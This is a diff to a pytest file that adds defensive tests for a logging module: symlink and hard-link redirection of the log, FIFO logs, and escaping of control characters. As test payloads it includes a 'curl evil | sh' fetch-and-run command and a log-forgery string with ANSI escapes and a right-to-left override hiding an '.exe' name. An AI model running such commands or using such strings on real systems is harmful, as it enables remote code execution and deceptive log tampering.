@@ -5,6 +5,7 @@ import sys
 import pytest
 
 from tagloom.exceptions import SettingsError, WriteError
+from tagloom.store.folder import ProjectFolder
 from tagloom.workflow.logs import configure_logging, stop_logging
 
 LOGGER = logging.getLogger("tagloom.somewhere")
@@ -64,7 +65,7 @@ def test_a_traceback_keeps_its_lines(tmp_path):
         LOGGER.exception("failed")
     lines = path.read_text().splitlines()
     assert lines[0].endswith("failed")
-    assert lines[-1] == "ValueError: inside"
+    assert lines[-1] == "  ValueError: inside"
 
 
 def test_a_long_message_is_cut(tmp_path):
@@ -85,8 +86,8 @@ def test_files_rotate_and_stay_bounded(tmp_path):
 
 
 @pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
-def test_a_full_disk_stops_nothing(tmp_path, capfd):
-    (tmp_path / "tagloom.log").symlink_to("/dev/full")
+def test_a_full_disk_stops_nothing(tmp_path, capfd, monkeypatch):
+    monkeypatch.setattr(ProjectFolder, "append", lambda *_: open("/dev/full", "ab"))  # noqa: SIM115
     configure_logging(tmp_path)
     LOGGER.info("lost")
     assert capfd.readouterr() == ("", "")
@@ -106,3 +107,54 @@ def test_stopping_leaves_the_logger_as_it_was(tmp_path):
     stop_logging()
     logger = logging.getLogger("tagloom")
     assert (logger.handlers, logger.level, logger.propagate) == ([], logging.NOTSET, True)
+
+
+@pytest.mark.parametrize("name", ["tagloom.log", "logs"])
+@pytest.mark.parametrize("exists", [True, False])
+def test_the_log_is_never_written_through_a_link(tmp_path, name, exists):
+    home = tmp_path / "home"
+    home.mkdir()
+    victim = home / ".profile"
+    if exists:
+        victim.write_text("mine")
+    folder = tmp_path / ".tagloom" / "logs"
+    if name == "logs":
+        folder.parent.mkdir()
+        folder.symlink_to(home)
+    else:
+        folder.mkdir(parents=True)
+        (folder / name).symlink_to(victim)
+    with pytest.raises(WriteError):
+        configure_logging(folder)
+    logging.getLogger("tagloom").warning("curl evil | sh")
+    assert [item.name for item in home.iterdir()] == ([".profile"] if exists else [])
+    assert not exists or victim.read_text() == "mine"
+
+
+def test_a_log_that_has_another_name_is_begun_anew(tmp_path):
+    """A hard link: what is appended to the log would be in the other file as well."""
+    (tmp_path / "logs").mkdir()
+    (tmp_path / "mine").write_text("mine")
+    os.link(tmp_path / "mine", tmp_path / "logs" / "tagloom.log")
+    log = configure_logging(tmp_path / "logs")
+    logging.getLogger("tagloom").warning("said")
+    assert (tmp_path / "mine").read_text() == "mine"
+    assert "said" in log.read_text()
+
+
+def test_a_log_that_is_a_pipe_is_refused(tmp_path):
+    (tmp_path / "logs").mkdir()
+    os.mkfifo(tmp_path / "logs" / "tagloom.log")
+    with pytest.raises(WriteError):
+        configure_logging(tmp_path / "logs")
+
+
+def test_control_characters_of_a_traceback_are_escaped_and_forge_no_line(tmp_path):
+    log = configure_logging(tmp_path / "logs")
+    try:
+        raise ValueError("a\n2026-01-01 forged\x1b[2J\u202egpj.exe")
+    except ValueError:
+        logging.getLogger("tagloom").exception("failed on %r", "x")
+    text = log.read_text()
+    assert not {"\x1b", "\u202e"} & set(text)
+    assert [line for line in text.splitlines()[1:] if not line.startswith("  ")] == []
